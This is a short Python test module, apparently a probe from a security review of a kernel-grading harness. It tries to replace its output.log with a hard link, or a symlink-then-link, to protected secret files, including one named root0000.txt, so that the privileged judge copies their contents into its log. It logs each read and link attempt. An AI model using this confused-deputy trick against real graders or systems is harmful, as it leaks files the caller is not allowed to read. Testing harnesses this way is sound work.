"""Replaces its output.log by a hard link to a file it cannot read itself (the judge, with its
capabilities, can): the judge would copy it into its log."""
import importlib.util, os, pathlib, sys
_b = importlib.util.spec_from_file_location("_l", pathlib.Path(__file__).with_name("_load.py"))
_m = importlib.util.module_from_spec(_b); _b.loader.exec_module(_m); B = _m.base()
out = os.environ["KOPT_KERNEL_OUTPUT"]
for src in ("/tmp/review33/secret/other_owner.txt", "/tmp/review33/secret/root0000.txt"):
    try:
        open(src).read(); B.log(f"link: could read {src} itself")
    except OSError as e:
        B.log(f"link: read {src} refused: {e.strerror}")
    for how in ("link", "symlink-then-linkat-follow"):
        try:
            os.unlink(out) if os.path.lexists(out) else None
            if how == "link":
                os.link(src, out)
            else:
                tmp = os.path.join(os.path.dirname(out), "sl"); os.symlink(src, tmp)
                os.link(tmp, out, follow_symlinks=True)
            B.log(f"link: {how} {src} -> output.log OK")
            break
        except OSError as e:
            B.log(f"link: {how} {src} refused: {e.strerror}")
def run_kernel(x, y):
    B.honest(x, y)
